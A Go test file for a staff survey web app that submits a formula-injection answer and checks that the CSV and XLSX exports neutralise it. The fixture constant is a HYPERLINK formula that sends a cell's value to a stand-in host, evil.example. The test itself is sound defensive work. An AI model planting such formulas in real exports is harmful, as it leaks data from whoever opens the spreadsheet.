package web_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"staffnet/internal/auth"
	"staffnet/internal/store/storetest"
)

// formula is a free-text answer that a spreadsheet would run: it sends
// the sheet's first cell to another site when clicked.
const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// TestDownloadNeutralisesFormulas answers the survey with a formula and
// downloads the responses as an analyst: in the CSV the answer is text
// with a ' in front; in the XLSX it is a string cell, not a formula.
func TestDownloadNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	a := newApp(t, storetest.SQLite(t))
	answers := map[string]url.Values{
		"about_you": {"region": {"london"}},
		"networks":  {"has_bme_network": {"dont_know"}, "other_networks": {"none"}},
		"comments":  {"benefits_comment": {formula}, "other_comments": {"-2+3"}},
	}
	f, _ := a.walk(answers, []string{"about_you", "networks", "without_network", "working_together", "comments"})
	f.Set("_action", "submit")
	if res, _ := a.post("/s/"+slug, f); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("submit: %d", res.StatusCode)
	}
	c, _ := signIn(t, a, auth.Analyst)
	get := func(path string) []byte {
		res, err := c.Get(a.srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d", path, res.StatusCode)
		}
		return b
	}
	recs, err := csv.NewReader(bytes.NewReader(get("/admin/surveys/" + slug + "/export.csv"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	cell := map[string]string{}
	for i, h := range recs[0] {
		cell[h] = recs[1][i]
	}
	if cell["benefits_comment"] != "'"+formula || cell["other_comments"] != "'-2+3" {
		t.Errorf("CSV cells not neutralised: %q, %q", cell["benefits_comment"], cell["other_comments"])
	}
	for _, c := range recs[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !strings.HasPrefix(c, "-") {
			t.Errorf("cell %q starts a formula", c)
		}
	}

	x, err := excelize.OpenReader(bytes.NewReader(get("/admin/surveys/" + slug + "/export.xlsx")))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows("Responses")
	if err != nil || len(rows) != 2 {
		t.Fatalf("xlsx rows: %d, %v", len(rows), err)
	}
	for i, h := range rows[0] {
		if h != "benefits_comment" {
			continue
		}
		name, _ := excelize.CoordinatesToCellName(i+1, 2)
		if rows[1][i] != formula {
			t.Errorf("xlsx %s = %q, want the answer as typed", name, rows[1][i])
		}
		if fm, _ := x.GetCellFormula("Responses", name); fm != "" {
			t.Errorf("xlsx %s is a formula: %q", name, fm)
		}
		if ty, _ := x.GetCellType("Responses", name); ty == excelize.CellTypeFormula {
			t.Errorf("xlsx %s has formula type", name)
		}
	}
}
